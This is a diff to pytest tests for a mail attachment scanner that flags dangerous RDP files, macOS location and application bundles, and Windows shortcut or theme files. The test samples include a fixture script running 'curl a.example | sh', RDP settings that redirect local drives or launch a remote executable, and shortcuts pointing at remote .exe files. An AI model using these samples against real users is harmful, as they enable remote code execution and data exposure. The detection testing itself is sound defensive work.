@@ -5,6 +5,7 @@ from __future__ import annotations
 import bz2
 import gzip
 import lzma
+import plistlib
 import re
 from collections.abc import Callable
 from pathlib import Path
@@ -20,7 +21,7 @@ from contentfilter.pool.frames import Done
 from contentfilter.pool.messages import decode, encode
 from contentfilter.scanners.compressed import Compressed
 from mailbase.config import FINDING_NAMES, ConfigError, loads
-from mailbase.scripts import SUFFIXES, detail, suffix_of
+from mailbase.scripts import BY_CONTENT, SUFFIXES, detail, suffix_of
 from mailbase.vocabulary import Action, Flow
 from tests.samples.archives import plain_zip
 from tests.samples.messages import attachment, message, multipart, text
@@ -43,7 +44,7 @@ def found(data: bytes, name: str) -> list[str]:
     return [finding.detail for finding in result.findings if finding.name == "executable"]
 
 
-@pytest.mark.parametrize("end", sorted(SUFFIXES))
+@pytest.mark.parametrize("end", sorted(SUFFIXES.keys() - BY_CONTENT))
 def test_a_script_by_what_its_suffix_starts(end: str):
     assert found(JSCRIPT, f"invoice.{end}") == [f"script .{end}: {SUFFIXES[end]}"]
     assert found(b"", f"invoice.{end}") == []
@@ -62,6 +63,54 @@ def test_a_script_by_what_its_suffix_starts(end: str):
 )
 def test_spellings_of_a_suffix(name: str, data: bytes):
     assert len(found(data, name)) == 1
+
+
+CONNECTION = (
+    "screen mode id:i:2\r\nfull address:s:desk.example\r\nredirectclipboard:i:1\r\nredirectprinters:i:1\r\n"
+)
+
+
+@pytest.mark.parametrize("charset", ["ascii", "utf-16", "utf-8-sig"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "drivestoredirect:s:*",
+        "drivestoredirect:s:C:\\;D:\\;",
+        "redirectdrives:i:1",
+        "usbdevicestoredirect:s:*",
+        "RemoteApplicationMode:i:1",
+        "alternate shell:s:\\\\tsclient\\c\\a.exe",
+    ],
+)
+def test_connection_that_hands_over(line: str, charset: str):
+    for lines in (CONNECTION + line, f"{line}\r\n{CONNECTION}", CONNECTION.replace("\r\n", "\r") + line):
+        assert found(lines.encode(charset), "desk.rdp") == [detail("rdp")]
+    assert found((CONNECTION + line).encode(charset), "desk.txt") == []
+
+
+@pytest.mark.parametrize(
+    "lines",
+    ["", "drivestoredirect:s:\r\nalternate shell:s:\r\nredirectdrives:i:0\r\nremoteapplicationmode:i:0"],
+)
+def test_plain_connection(lines: str):
+    assert found((CONNECTION + lines).encode("utf-16"), "desk.rdp") == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["file:///System/x.app", "FILE://a/b", "smb://a/b", "file:///\u00e4.app", f"file:///{'a' * 400}"],
+)
+def test_binary_location_of_macos(url: str):
+    data = plistlib.dumps({"URL": url}, fmt=plistlib.FMT_BINARY)
+    assert found(data, "invoice.inetloc") == ["macOS location"]
+    assert found(data, "settings.plist") == []
+
+
+def test_shell_script_that_is_an_application_of_macos():
+    program = "Invoice.app/Contents/MacOS/Invoice"
+    members = {program: b"#!/bin/sh\ncurl a.example | sh\n", "Invoice.app/Contents/Info.plist": b"<plist/>"}
+    assert found(plain_zip(members), "a.zip") == ["macOS application"]
+    assert found(plain_zip({"src/build": members[program]}), "a.zip") == []
 
 
 def test_picture_that_is_a_script_as_well():
@@ -99,7 +148,7 @@ def test_an_attachment_without_a_name_is_saved_by_its_type(head: str, expected: 
     assert [item.detail.partition(":")[0] for item in findings if item.name == "executable"] == expected
 
 
-@pytest.mark.parametrize("end", sorted(SUFFIXES))
+@pytest.mark.parametrize("end", sorted(SUFFIXES.keys() - BY_CONTENT))
 def test_of_two_names_in_a_mail_the_script_counts(end: str):
     head = f'Content-Type: a/b; name="a.{end}"\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\n'
     findings = scan_message(message(multipart(text(), head.encode() + b"x = 1"))).findings
@@ -216,6 +265,8 @@ def test_desktop_entry_that_starts_a_shell(command: bytes):
         (b"#!/usr/bin/env xdg-open\n" + DESKTOP % b"sh -c x", "a.desktop"),
         (b"; x\r\n[Shell]\r\nCommand=2\r\n", "a.scf"),
         (b"; x\r\n" * 9000 + b"[InternetShortcut]\r\nURL=file://10.0.0.1/a.exe\r\n", "a.url"),
+        (b"[InternetShortcut]\rURL=file://10.0.0.1/a.exe\r", "a.url"),
+        (b"[ InternetShortcut ]\r\nURL=file://10.0.0.1/a.exe\r\n", "a.url"),
         (b"; x\r\n" + ACCESS, "a.mam"),
         (b"; x\r\n[VisualStyles]\r\nPath=\\\\10.0.0.1\\a.msstyles\r\n", "a.theme"),
     ],
@@ -263,6 +314,7 @@ def test_text_that_quotes_a_program(data: bytes):
         (b"[Theme]\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\Aero.msstyles\r\n", "a.theme"),
         (b"[.ShellClassInfo]\r\nLocalizedResourceName=@shell32.dll,-21787\r\n", "desktop.ini"),
         (b"<plist><dict><key>URL</key><string>https://www.example.org/", "page.webloc"),
+        (plistlib.dumps({"URL": "https://www.example.org/"}, fmt=plistlib.FMT_BINARY), "page.webloc"),
         (b"<plist><dict><key>CFBundleName</key><string>x", "Info.plist"),
         (b"<?xml version='1.0'?><assembly xmlns='urn:x'><assemblyIdentity/></assembly>", "app.manifest"),
         (b"<?xml version='1.0'?><project><job>x</job></project>", "config.xml"),
